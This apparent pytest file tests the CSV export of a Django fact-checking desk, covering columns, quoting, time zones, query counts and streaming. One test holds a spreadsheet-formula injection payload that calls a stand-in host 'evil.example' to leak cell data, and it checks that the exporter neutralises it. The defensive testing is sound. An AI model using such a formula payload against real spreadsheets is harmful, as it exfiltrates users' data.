import csv
import io
from datetime import UTC, date, datetime, timedelta
from datetime import timezone as dt_timezone
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from claims.models import Claim, Cluster, Verdict
from claims.queries import ClaimFilters
from claims.services import VerdictSelection, select_verdicts, verdicts_csv
from sources.models import Article
from tests.claims.factories_export import (
    APPROVED_AT,
    approved_verdict,
    claim_in,
    submitted_verdict,
)
from tests.factories import (
    ArticleFactory,
    ClaimFactory,
    ClaimMatchFactory,
    EvidenceFactory,
    OutletFactory,
    QuantityFactory,
    VerdictFactory,
    editor,
    rating,
)

HEADER = (
    "claim_id,claim_text,claim_kind,quantities,article_title,article_url,outlet,"
    "article_published,rating,rating_value,rationale,evidence_urls,evidence_stances,"
    "reviewer,submitted_at,approved_by,approved_at,state,cluster_id,duplicate_claim_ids,"
    "conflict_claim_ids\r\n"
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    # Each verdict author is a new user; the default hasher would dominate.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def export(verdicts=None, **kwargs) -> bytes:
    verdicts = select_verdicts(VerdictSelection(state="all")) if verdicts is None else verdicts
    return b"".join(verdicts_csv(verdicts, **kwargs))


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_header_row_is_exactly_the_columns_of_the_issue():
    data = export()
    assert data.decode("utf-8") == HEADER


def test_a_row_carries_claim_article_verdict_evidence_and_matches():
    cluster = Cluster.objects.create()
    claim = claim_in(
        "Press TV",
        url="https://presstv.example/strike",
        published=date(2020, 1, 8),
        cluster=cluster,
    )
    QuantityFactory(claim=claim, text="15 missiles", start=1, end=5)
    QuantityFactory(claim=claim, text="3 buildings", start=10, end=20)
    EvidenceFactory(claim=claim, url="https://evidence.example/a", stance="supports")
    EvidenceFactory(claim=claim, url="https://evidence.example/b", stance="refutes")
    same = ClaimFactory()
    conflict = ClaimFactory()
    rejected = ClaimFactory()
    ClaimMatchFactory(claim_a=claim, claim_b=same, relation="same", state="confirmed")
    ClaimMatchFactory(claim_a=claim, claim_b=conflict, relation="conflict")
    ClaimMatchFactory(claim_a=claim, claim_b=rejected, relation="same", state="rejected")
    verdict = approved_verdict(claim, rating=rating("Mostly false"), rationale="Fewer.")

    (row,) = rows(export())

    assert row == {
        "claim_id": str(claim.pk),
        "claim_text": claim.text,
        "claim_kind": "quantity",
        "quantities": "15 missiles | 3 buildings",
        "article_title": claim.article.title,
        "article_url": "https://presstv.example/strike",
        "outlet": "Press TV",
        "article_published": "2020-01-08",
        "rating": "Mostly false",
        "rating_value": "2",
        "rationale": "Fewer.",
        "evidence_urls": "https://evidence.example/a | https://evidence.example/b",
        "evidence_stances": "supports | refutes",
        "reviewer": verdict.author.username,
        "submitted_at": "2026-03-02T09:30:00+00:00",
        "approved_by": "erin",
        "approved_at": "2026-03-03T14:05:07+00:00",
        "state": "approved",
        "cluster_id": str(cluster.pk),
        "duplicate_claim_ids": str(same.pk),
        "conflict_claim_ids": str(conflict.pk),
    }


def test_matches_are_listed_from_either_side_of_the_pair_in_id_order():
    first, second, third = ClaimFactory(), ClaimFactory(), ClaimFactory()
    ClaimMatchFactory(claim_a=first, claim_b=third, relation="same")
    ClaimMatchFactory(claim_a=first, claim_b=second, relation="same")
    VerdictFactory(claim=second)
    VerdictFactory(claim=third)

    by_id = {row["claim_id"]: row for row in rows(export())}

    assert by_id[str(second.pk)]["duplicate_claim_ids"] == str(first.pk)
    assert by_id[str(third.pk)]["duplicate_claim_ids"] == str(first.pk)


def test_missing_values_are_empty_cells():
    VerdictFactory(rating=None, rationale="", state="draft")

    (row,) = rows(export())

    for column in [
        "quantities",
        "article_url",
        "article_published",
        "rating",
        "rating_value",
        "evidence_urls",
        "evidence_stances",
        "submitted_at",
        "approved_by",
        "approved_at",
        "cluster_id",
        "duplicate_claim_ids",
        "conflict_claim_ids",
    ]:
        assert row[column] == "", column


@pytest.mark.parametrize(
    ("zone", "expected"),
    [
        ("UTC", "2026-03-03T14:05:07+00:00"),
        ("Asia/Tehran", "2026-03-03T17:35:07+03:30"),
        ("America/New_York", "2026-03-03T09:05:07-05:00"),
    ],
)
def test_times_are_iso_8601_with_the_desks_time_zone_offset(settings, zone, expected):
    settings.TIME_ZONE = zone
    approved_verdict()

    (row,) = rows(export())

    assert row["approved_at"] == expected
    assert datetime.fromisoformat(row["approved_at"]) == APPROVED_AT


def test_a_rationale_with_commas_quotes_a_newline_and_arabic_round_trips():
    rationale = (
        'The ministry said "15, not 22",\nand Al Jazeera wrote: قال المتحدث إن ١٥ صاروخاً أطلقت'
    )
    approved_verdict(rationale=rationale)

    data = export()
    (row,) = rows(data)

    assert row["rationale"] == rationale
    assert '"The ministry said ""15, not 22"",\n' in data.decode("utf-8")


def test_a_claim_text_starting_with_a_hyperlink_formula_is_neutralised():
    text = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    approved_verdict(ClaimFactory(text=text))

    (row,) = rows(export())

    assert row["claim_text"] == "'" + text


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_at_the_start_of_a_text_cell_is_prefixed(trigger):
    approved_verdict(rationale=f"{trigger}1+2", claim=ClaimFactory(text=f"{trigger}SUM(A1)"))

    (row,) = rows(export())

    assert row["rationale"] == f"'{trigger}1+2"
    assert row["claim_text"] == f"'{trigger}SUM(A1)"


def test_a_formula_character_inside_a_cell_is_left_alone():
    approved_verdict(rationale="Cost = 3 + 4 @ noon")

    (row,) = rows(export())

    assert row["rationale"] == "Cost = 3 + 4 @ noon"


def test_the_excel_option_starts_the_file_with_a_byte_order_mark():
    approved_verdict(rationale="قال")

    plain = export()
    for_excel = export(excel=True)

    assert not plain.startswith(b"\xef\xbb\xbf")
    assert for_excel == b"\xef\xbb\xbf" + plain


def test_approved_is_the_default_state_and_unapproved_verdicts_stay_out():
    approved = approved_verdict()
    submitted_verdict()
    VerdictFactory(state="draft")
    VerdictFactory(state="returned")

    ids = [row["claim_id"] for row in rows(export(select_verdicts(VerdictSelection())))]

    assert ids == [str(approved.claim_id)]


def test_state_submitted_and_all_select_their_verdicts():
    approved_verdict()
    submitted = submitted_verdict()
    VerdictFactory(state="draft")

    submitted_rows = rows(export(select_verdicts(VerdictSelection(state="submitted"))))
    all_rows = rows(export(select_verdicts(VerdictSelection(state="all"))))

    assert [row["claim_id"] for row in submitted_rows] == [str(submitted.claim_id)]
    assert sorted(row["state"] for row in all_rows) == ["approved", "draft", "submitted"]


def test_since_keeps_verdicts_decided_on_or_after_the_day():
    early = approved_verdict(approved_at=datetime(2026, 1, 31, 23, 0, tzinfo=UTC))
    late = approved_verdict(approved_at=datetime(2026, 2, 1, 0, 0, tzinfo=UTC))

    selected = select_verdicts(VerdictSelection(since=date(2026, 2, 1)))

    assert list(selected.values_list("pk", flat=True)) == [late.pk]
    assert early.pk not in selected.values_list("pk", flat=True)


def test_the_queue_filters_select_the_same_claims_as_the_queue():
    wanted = OutletFactory(name="Wanted")
    in_outlet = approved_verdict(ClaimFactory(article=ArticleFactory(outlet=wanted)))
    approved_verdict()

    selection = VerdictSelection(filters=ClaimFilters(outlet=wanted.pk))

    assert [row["claim_id"] for row in rows(export(select_verdicts(selection)))] == [
        str(in_outlet.claim_id)
    ]


@pytest.mark.parametrize("skipped", [1, 3])
def test_each_row_lists_only_its_own_claims_items_when_claims_between_are_left_out(skipped):
    # One left-out claim between two selected ones is read as an id range,
    # three as an id list; either way only the row's own items are listed.
    claims = [ClaimFactory() for _ in range(skipped + 2)]
    for number, claim in enumerate(claims):
        QuantityFactory(claim=claim, text=f"{number} missiles")
        EvidenceFactory(claim=claim, url=f"https://evidence.example/{number}")
    first, *between, last = claims
    approved_verdict(first)
    approved_verdict(last)
    for claim in between:
        submitted_verdict(claim)

    by_id = {row["claim_id"]: row for row in rows(export(select_verdicts(VerdictSelection())))}

    assert by_id == {str(first.pk): by_id[str(first.pk)], str(last.pk): by_id[str(last.pk)]}
    assert by_id[str(first.pk)]["quantities"] == "0 missiles"
    assert by_id[str(last.pk)]["quantities"] == f"{skipped + 1} missiles"
    assert by_id[str(last.pk)]["evidence_urls"] == f"https://evidence.example/{skipped + 1}"


def test_rows_come_in_claim_order():
    claims = [ClaimFactory() for _ in range(4)]
    for claim in reversed(claims):
        approved_verdict(claim)

    ids = [row["claim_id"] for row in rows(export())]

    assert ids == [str(claim.pk) for claim in claims]


def _verdicts_with_lists(count: int) -> None:
    approver = editor("erin")
    for _ in range(count):
        claim = ClaimFactory()
        QuantityFactory(claim=claim)
        EvidenceFactory(claim=claim)
        ClaimMatchFactory(claim_a=claim, claim_b=ClaimFactory())
        approved_verdict(claim, approver=approver)


def _queries_of_export(count: int, **kwargs) -> tuple[list[str], list[dict[str, str]]]:
    _verdicts_with_lists(count)
    verdicts = select_verdicts(VerdictSelection())
    with CaptureQueriesContext(connection) as captured:
        data = export(verdicts, **kwargs)
    return [query["sql"] for query in captured.captured_queries], rows(data)


@pytest.mark.parametrize("count", [3, 30])
def test_the_export_reads_every_row_in_one_query(count):
    queries, exported = _queries_of_export(count)

    # The lines are built by the database: one SELECT, whatever the number of
    # rows. PostgreSQL's also runs in a savepoint with the JIT compiler off
    # and the session in the desk's time zone (read, set, put back).
    settings_sql = ("set_config", "current_setting")
    selects = [
        sql  # or DECLARE … FOR SELECT
        for sql in queries
        if "SELECT" in sql.upper() and not any(name in sql for name in settings_sql)
    ]
    assert len(selects) == 1
    assert len(queries) == (1 if connection.vendor == "sqlite" else 7)
    assert len(exported) == count


@pytest.mark.parametrize("count", [5, 25])
def test_more_chunks_read_no_more_queries(count):
    queries, exported = _queries_of_export(count, chunk_size=10)

    assert len(queries) == (1 if connection.vendor == "sqlite" else 7)
    assert len(exported) == count
    assert all(row["quantities"] and row["evidence_urls"] for row in exported)


def test_the_export_is_a_generator_of_byte_chunks_one_per_database_chunk():
    for _ in range(5):
        approved_verdict()

    chunks = list(verdicts_csv(select_verdicts(VerdictSelection()), chunk_size=2))

    assert all(isinstance(chunk, bytes) for chunk in chunks)
    assert len(chunks) == 1 + 3  # header, then chunks of 2, 2 and 1 rows


def test_no_model_object_is_built_per_row(monkeypatch):
    approved_verdict()

    def refuse(cls, *args, **kwargs):
        raise AssertionError(f"{cls.__name__} instantiated from the database")

    for model in [Verdict, Claim, Article]:
        monkeypatch.setattr(model, "from_db", classmethod(refuse))
    assert rows(export())


def test_the_streaming_response_is_typed_and_named(erin_client):
    response = erin_client.get("/export/verdicts.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="verdicts-{today}.csv"'


@pytest.mark.parametrize("zone", ["UTC", "Asia/Tehran"])
def test_the_fraction_of_a_second_is_dropped_not_rounded_whoever_formats_the_time(settings, zone):
    # In UTC the database formats the time; elsewhere Python does. A time
    # just before a full second must not round up to it on either path.
    settings.TIME_ZONE = zone
    moment = datetime(2026, 3, 3, 23, 59, 59, 999_999, tzinfo=UTC)
    approved_verdict(approved_at=moment, submitted_at=moment.replace(microsecond=500_000))

    (row,) = rows(export())

    expected = moment.astimezone(timezone.get_current_timezone()).isoformat(timespec="seconds")
    assert row["approved_at"] == expected
    assert row["submitted_at"] == expected
    assert row["approved_at"].endswith(":59+00:00" if zone == "UTC" else ":59+03:30")


def test_an_export_of_a_selection_that_can_match_nothing_is_the_header_alone():
    approved_verdict()

    data = export(Verdict.objects.filter(claim_id__in=[]))

    assert data.decode("utf-8") == HEADER


def test_a_download_stopped_early_leaves_the_connection_usable():
    for _ in range(5):
        approved_verdict()
    chunks = verdicts_csv(select_verdicts(VerdictSelection()), chunk_size=2)
    next(chunks)  # the header
    next(chunks)  # the first two rows

    chunks.close()  # the client went away

    assert Verdict.objects.count() == 5
    assert len(rows(export())) == 5


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL sets the session zone")
def test_an_export_in_the_desks_zone_writes_its_times_there_and_leaves_the_session_in_utc():
    verdict = approved_verdict()
    newfoundland = ZoneInfo("America/St_Johns")  # -03:30 or -02:30

    with timezone.override(newfoundland):
        [row] = rows(export())
        with connection.cursor() as cursor:
            cursor.execute("SELECT current_setting('TimeZone')")
            assert cursor.fetchone()[0] == "UTC"

    assert row["approved_at"] == verdict.approved_at.astimezone(newfoundland).isoformat(
        timespec="seconds"
    )
    assert Verdict.objects.get(pk=verdict.pk).approved_at == verdict.approved_at


@pytest.mark.parametrize(
    ("zone", "change"),
    [
        ("Europe/London", datetime(2026, 3, 29, 1, 0, tzinfo=UTC)),  # to summer time
        ("Europe/London", datetime(2026, 10, 25, 1, 0, tzinfo=UTC)),  # back, an hour twice
        ("America/St_Johns", datetime(2026, 3, 8, 5, 30, tzinfo=UTC)),  # -03:30 to -02:30
    ],
)
def test_times_either_side_of_a_clock_change_are_written_in_the_desks_zone(zone, change):
    moments = [change + timedelta(seconds=step) for step in (-3601, -1, 0, 1, 3600)]
    for moment in moments:
        approved_verdict(approved_at=moment, submitted_at=moment - timedelta(days=200))

    with timezone.override(ZoneInfo(zone)):
        exported = rows(export())

    local = ZoneInfo(zone)
    assert [row["approved_at"] for row in exported] == [
        m.astimezone(local).isoformat(timespec="seconds") for m in moments
    ]
    assert [row["submitted_at"] for row in exported] == [
        (m - timedelta(days=200)).astimezone(local).isoformat(timespec="seconds") for m in moments
    ]


def test_a_zones_offsets_change_to_the_second_where_its_clocks_change():
    from claims.services.exports import ZoneSpan

    span = ZoneSpan.of(
        ZoneInfo("Europe/London"),
        datetime(2026, 1, 1, tzinfo=UTC),
        datetime(2026, 12, 31, tzinfo=UTC),
    )

    assert span.starts == ("", "2026-03-29 01:00:00", "2026-10-25 01:00:00")
    assert span.offsets == (0, 3600, 0)


def test_an_export_refuses_a_database_connection_not_in_utc(monkeypatch):
    approved_verdict()
    monkeypatch.setattr(connection, "timezone", ZoneInfo("Europe/Paris"))

    with pytest.raises(ImproperlyConfigured, match="leave TIME_ZONE out of DATABASES"):
        export()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL needs the zone's name")
def test_an_export_on_postgresql_needs_the_desks_zone_by_name():
    approved_verdict()

    with (
        timezone.override(dt_timezone(timedelta(hours=5, minutes=30))),
        pytest.raises(ImproperlyConfigured, match="IANA name"),
    ):
        export()
